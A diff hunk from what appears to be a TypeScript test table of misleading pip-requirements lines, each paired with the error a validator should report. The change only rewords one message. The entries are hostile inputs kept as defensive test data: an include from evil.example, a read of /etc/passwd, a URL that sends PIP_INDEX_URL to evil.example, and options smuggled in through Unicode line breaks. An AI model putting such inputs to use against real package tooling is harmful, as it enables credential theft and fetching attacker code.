@@ -132,7 +132,7 @@ const MISLEADING_LINES: readonly (readonly [string, string])[] = [
   ["-r https://evil.example/r.txt", "only files of the archive are read"],
   ["-r file:///etc/passwd", "only files of the archive are read"],
   ["-r none.txt", "none.txt, which the archive does not contain"],
-  [`pad @ https://evil.example/$\{PIP_INDEX_URL}/x.whl`, "a variable of the environment"],
+  [`pad @ https://evil.example/$\{PIP_INDEX_URL}/x.whl`, "an environment variable"],
   ["pad\u2028--index-url https://evil.example", "not ASCII"],
   ["pad\u0085-e .", "not ASCII"],
   ["pad\f-e .", "not ASCII"],
